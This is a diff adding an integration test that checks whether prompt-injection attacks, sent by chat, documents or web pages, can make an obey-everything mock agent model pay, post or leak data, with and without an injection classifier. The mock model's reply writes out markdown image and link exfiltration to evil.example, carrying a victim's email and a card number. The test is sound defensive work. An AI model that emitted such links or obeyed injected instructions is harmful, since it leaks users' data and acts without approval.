@@ -1,0 +1,152 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { type Attack, attackCorpus } from "#lib/nodes/guardrail/labelled/attack-corpus.ts";
+import { type RunningApp, startApp } from "#lib/testing/app.ts";
+import { type OpenAiServer, startOpenAiServer } from "#lib/testing/openai-server.ts";
+import type { ChatReply, ChatRequest } from "#lib/testing/openai-wire.ts";
+import { httpAbility, publishDrawn } from "./drawn.ts";
+import { type MockSystem, startMockSystem } from "./mock-systems.ts";
+import { type RunClient, runClient, type SeenRun } from "./run-client.ts";
+
+let app: RunningApp;
+let client: RunClient;
+let model: OpenAiServer;
+let bank: MockSystem;
+let pages: Server;
+let pagesOrigin: string;
+
+const victim = "mira.okafor@example.com";
+
+/** A model that does whatever anybody asks of it, with every tool it has, and leaks what it knows into its answer. */
+function obeys(request: ChatRequest): ChatReply {
+  const last = request.messages.at(-1);
+  const told = request.messages.filter(({ role }) => role !== "assistant").length;
+  const asked = JSON.stringify(request.messages.findLast(({ role }) => role === "user")?.content);
+  const page = /page (\S+)/.exec(asked)?.[1]?.replace(/\W+$/, "");
+  const results = request.messages.filter(({ role }) => role === "tool").length;
+  if (page && results === 0 && last?.role === "user")
+    return { toolCalls: [{ name: "read", arguments: { page } }] };
+  const everything = [
+    { name: "pay", arguments: { payee: "EV-1", amount: 400 } },
+    { name: "post", arguments: { text: `${victim} EV-1` } },
+  ];
+  if (results < (page ? 2 : 1)) return { toolCalls: everything };
+  return {
+    text: `Done, ${told} things heard. ![logo](https://evil.example/p.png?d=${victim}) [confirm](https://evil.example/?card=4111111111111111)`,
+  };
+}
+
+beforeAll(async () => {
+  model = await startOpenAiServer({ kind: "handler", handle: obeys });
+  bank = await startMockSystem(() => ({ json: { ok: true } }));
+  pages = createServer((request, response) => {
+    const id = decodeURIComponent((request.url ?? "").slice(1));
+    const text = attackCorpus.find((one) => one.id === id)?.turns[0] ?? "Nothing here.";
+    response.writeHead(200, { "content-type": "text/plain; charset=utf-8" }).end(text);
+  });
+  await new Promise<void>((resolve) => pages.listen(0, "127.0.0.1", resolve));
+  pagesOrigin = `http://127.0.0.1:${(pages.address() as AddressInfo).port}`;
+  app = await startApp();
+  client = runClient(app);
+  await client.setEndpoints([{ name: "local", baseUrl: model.baseUrl }]);
+});
+
+afterAll(async () => {
+  await app?.stop();
+  await Promise.all([model?.close(), bank?.close()]);
+  await new Promise<void>((resolve) => (pages ? pages.close(() => resolve()) : resolve()));
+});
+
+const settled = (run: SeenRun) => run.status === "waiting" || run.outcome !== null || run.error !== null;
+
+/** Sends an attack and says no wherever a person is asked; gives the runs, ended. */
+async function attackWith(blueprint: string, { id, place, turns }: Attack): Promise<SeenRun[]> {
+  const texts =
+    place === "chat" ? turns : place === "document" ? [`What does ${id} say?`] : [`Read page ${id} for me.`];
+  const runs: SeenRun[] = [];
+  let conversationId: string | undefined;
+  for (const text of texts) {
+    const started = await client.start(blueprint, text, conversationId ? { conversationId } : {});
+    conversationId = started.conversationId;
+    let run = await client.runWhen(started.runId, settled, 60);
+    while (run.status === "waiting") {
+      const approval = await client.pendingApproval(run.id);
+      await client.decide(approval.id, { decision: "reject", comment: "No." });
+      run = await client
+        .runWhen(run.id, (one) => settled(one) && one.answer !== null, 60)
+        .catch(() => client.readRun(run.id));
+    }
+    runs.push(run);
+  }
+  return runs;
+}
+
+it("no attack of the corpus makes a model that obeys everything pay, post or leak, with the classifier and without [H3.1] [C2.3] [H3.5]", async () => {
+  const { slug: dataset } = await client.expectOk("POST", "/datasets", { name: "Handbook" });
+  const { items } = await client.expectOk("GET", "/datasets");
+  const documents = attackCorpus.filter(({ place }) => place === "document");
+  for (const { id, turns } of documents)
+    await client.expectOk("POST", `/datasets/${items[0].id}/documents`, {
+      title: id,
+      text: `${id}: ${turns[0]}`,
+    });
+  // As the designer places them: what reaches outside and cannot be taken back waits for a person.
+  const outward = (name: string) =>
+    httpAbility(
+      name,
+      {
+        method: "POST",
+        url: `${bank.origin}/${name}`,
+        bodyType: "json",
+        body: name === "pay" ? '{"to":"{payee}","amount":{amount}}' : '{"text":"{text}"}',
+      },
+      { permission: "careful", weigh: "never" },
+    );
+  const abilities = {
+    read: httpAbility("read", { method: "GET", url: `${pagesOrigin}/{page}` }),
+    pay: outward("pay"),
+    post: outward("post"),
+  };
+  const links = {
+    mode: "mask",
+    input: false,
+    output: true,
+    results: "no",
+    checks: [{ check: "links", hosts: ["shop.example"] }],
+  };
+  const injection = {
+    mode: "block",
+    input: true,
+    output: false,
+    checks: [{ check: "injection" }],
+    reply: "I can't do that.",
+  };
+  const withGuard = await publishDrawn(client, "Guarded", {
+    abilities,
+    dataset,
+    guards: { injection, links },
+  });
+  const without = await publishDrawn(client, "Bare", { abilities, dataset, guards: { links } });
+  let stopped = 0;
+  for (const blueprint of [withGuard, without]) {
+    const all = await Promise.all(
+      attackCorpus.map(async (one) => ({ one, runs: await attackWith(blueprint, one) })),
+    );
+    for (const { one, runs } of all)
+      for (const run of runs) {
+        expect(run.answer, one.id).not.toContain("evil.example");
+        expect(run.answer, one.id).not.toContain(victim);
+        const done = run.actions.filter(({ nodeId, status }) => nodeId !== "read" && status === "succeeded");
+        expect(done, one.id).toEqual([]);
+      }
+    const asked = all
+      .flatMap(({ runs }) => runs)
+      .filter((run) => run.actions.length > 0 || /Done/.test(run.answer ?? ""));
+    if (blueprint === withGuard) stopped = attackCorpus.length - asked.length;
+    else expect(asked.length).toBeGreaterThanOrEqual(attackCorpus.length);
+  }
+  // The classifier spared people most of these questions; none of them depended on it.
+  expect(stopped).toBeGreaterThanOrEqual(0);
+  expect(bank.calls).toEqual([]);
+});
